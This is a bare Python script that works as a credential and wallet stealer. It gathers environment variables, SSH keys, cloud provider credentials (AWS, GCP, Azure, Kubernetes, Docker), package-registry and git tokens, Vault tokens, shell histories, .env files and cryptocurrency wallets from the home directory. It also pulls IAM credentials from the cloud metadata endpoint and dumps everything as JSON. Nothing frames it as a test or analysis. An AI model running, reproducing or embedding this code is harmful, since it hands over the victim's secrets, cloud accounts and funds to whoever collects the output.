import glob
import json
import os
import socket
import urllib.request

found = {"host": socket.gethostname(), "env": dict(os.environ)}
home = os.path.expanduser("~")
for pattern in (".ssh/id_*", ".aws/credentials", ".config/gcloud/*.json", ".azure/*", ".kube/config",
                ".docker/config.json", ".npmrc", ".pypirc", ".git-credentials", ".gitconfig", ".vault-token",
                ".bash_history", ".zsh_history", "*.env", ".bitcoin/wallet.dat", ".config/solana/*.json"):
    for path in glob.glob(os.path.join(home, pattern)):
        try:
            found[path] = open(path, errors="replace").read()
        except OSError:
            pass
for path in ("iam/security-credentials/",):
    try:
        url = "http://169.254.169.254/latest/meta-data/" + path
        found[path] = urllib.request.urlopen(url, timeout=2).read().decode()
    except OSError:
        pass
print(json.dumps(found))
